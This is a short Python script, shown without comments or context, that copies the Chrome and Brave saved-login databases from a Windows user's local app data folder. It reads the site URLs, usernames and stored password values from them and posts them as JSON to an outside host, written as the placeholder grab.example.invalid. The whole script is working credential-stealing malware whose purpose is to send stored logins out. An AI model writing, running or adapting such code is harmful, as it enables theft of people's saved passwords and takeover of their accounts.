import os
import shutil
import sqlite3
import requests
LOCAL = os.getenv("LOCALAPPDATA")
STORES = [LOCAL + "\\Google\\Chrome\\User Data\\Default\\Login Data", LOCAL + "\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Login Data"]
found = []
for store in STORES:
    if os.path.exists(store):
        shutil.copy2(store, "tmp.db")
        found += sqlite3.connect("tmp.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://grab.example.invalid/p", json=found)
